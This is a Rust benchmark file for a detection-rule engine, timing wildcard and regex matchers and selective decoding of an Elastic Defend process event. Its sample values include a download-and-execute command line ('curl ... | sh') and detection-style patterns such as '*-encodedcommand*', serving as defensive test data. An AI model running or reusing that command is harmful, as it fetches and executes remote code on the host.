//! Criterion benchmarks of the engine's per-event kernels: string matchers (wildcards as
//! exact/prefix/suffix/contains/glob, Lucene regexes, case-insensitive forms), selective
//! decoding of one realistic document, and the rule prefilter plus evaluation over a
//! program of many rules.
//!
//! `cargo bench -p shrike-engine --bench kernels`

use criterion::{black_box, criterion_group, criterion_main, Criterion, Throughput};
use serde_json::Value as Json;
use shrike_engine::matcher::Matcher;
use shrike_engine::{Decoder, Program, ProgramBuilder, RuleOptions};
use shrike_ir::{Body, Expr, FieldRef, FieldType, Mapping, Query, Schema};

/// One Elastic Defend process event as `shrike generate` writes it (3.3 KB).
const EVENT: &str = include_str!("data/process_event.json");

/// Dotted paths of every leaf of a document.
fn leaves(prefix: &str, v: &Json, out: &mut Vec<String>) {
    match v {
        Json::Object(o) => {
            for (k, v) in o {
                let p = if prefix.is_empty() {
                    k.clone()
                } else {
                    format!("{prefix}.{k}")
                };
                leaves(&p, v, out);
            }
        }
        _ => out.push(prefix.to_string()),
    }
}

/// A program reading every other leaf field of the event (as rules read a share of a
/// document's fields), typed by dynamic mapping.
fn program() -> (Program, Schema) {
    let doc: Json = serde_json::from_str(EVENT).expect("event");
    let mut m = Mapping::new();
    m.add_dynamic(&doc);
    let schema = Schema::single("logs", m);
    let mut paths = Vec::new();
    leaves("", &doc, &mut paths);
    let items: Vec<Expr> = paths
        .iter()
        .step_by(2)
        .map(|p| {
            Expr::is_null(Expr::field(FieldRef {
                path: p.clone(),
                ty: FieldType::Keyword,
            }))
        })
        .collect();
    let q = Query {
        body: Body::Event(Expr::or(items)),
        pipes: vec![],
    };
    let mut b = ProgramBuilder::new(&schema);
    b.add(&q, &RuleOptions::default()).expect("plan");
    (b.build(), schema)
}

fn bench_decode(c: &mut Criterion) {
    let (program, _schema) = program();
    let mut d = Decoder::new(&program);
    let mut g = c.benchmark_group("decode");
    g.throughput(Throughput::Bytes(EVENT.len() as u64));
    g.bench_function("selective_from_bytes", |b| {
        b.iter(|| d.decode(0, black_box(EVENT.as_bytes()), 0).is_ok())
    });
    g.bench_function("selective_from_str", |b| {
        b.iter(|| d.decode_str(0, black_box(EVENT), 0).is_ok())
    });
    g.bench_function("serde_json_value_floor", |b| {
        b.iter(|| serde_json::from_str::<Json>(black_box(EVENT)).is_ok())
    });
    g.bench_function("serde_json_ignored_any_floor", |b| {
        b.iter(|| serde_json::from_str::<serde::de::IgnoredAny>(black_box(EVENT)).is_ok())
    });
    g.finish();
}

/// Values shaped like what Elastic's rules test: executables, command lines, names.
const VALUES: &[&str] = &[
    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
    "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --field-trial-handle=1234,i,5678 --lang=en-US --renderer-client-id=7 /prefetch:1",
    "/usr/bin/python3 /opt/app/manage.py runserver 0.0.0.0:8000",
    "svchost.exe",
    "C:\\Users\\alice\\AppData\\Local\\Temp\\setup_x64.EXE",
    "bash -c curl -s http://10.0.0.5/x | sh",
];

fn bench_matchers(c: &mut Criterion) {
    let mut g = c.benchmark_group("matcher");
    g.throughput(Throughput::Elements(VALUES.len() as u64));
    let cases: Vec<(&str, Matcher)> = vec![
        (
            "exact_ci",
            Matcher::wildcard("powershell.exe", true).expect("m"),
        ),
        (
            "suffix_ci",
            Matcher::wildcard("*\\powershell.exe", true).expect("m"),
        ),
        (
            "contains_ci",
            Matcher::wildcard("*-encodedcommand*", true).expect("m"),
        ),
        (
            "contains_cs",
            Matcher::wildcard("*/prefetch:*", false).expect("m"),
        ),
        (
            "glob_ci_drive",
            Matcher::wildcard("?:\\Users\\*\\AppData\\*.exe", true).expect("m"),
        ),
        (
            "glob_cs_inner_star",
            Matcher::wildcard("/usr/bin/*python*", false).expect("m"),
        ),
        (
            "regex_ci",
            Matcher::regex(".*\\\\[a-z0-9]{1,3}\\.exe", true).expect("m"),
        ),
    ];
    for (name, m) in &cases {
        g.bench_function(*name, |b| {
            b.iter(|| VALUES.iter().filter(|v| m.is_match(black_box(v))).count())
        });
    }
    g.finish();
}

criterion_group!(benches, bench_matchers, bench_decode);
criterion_main!(benches);
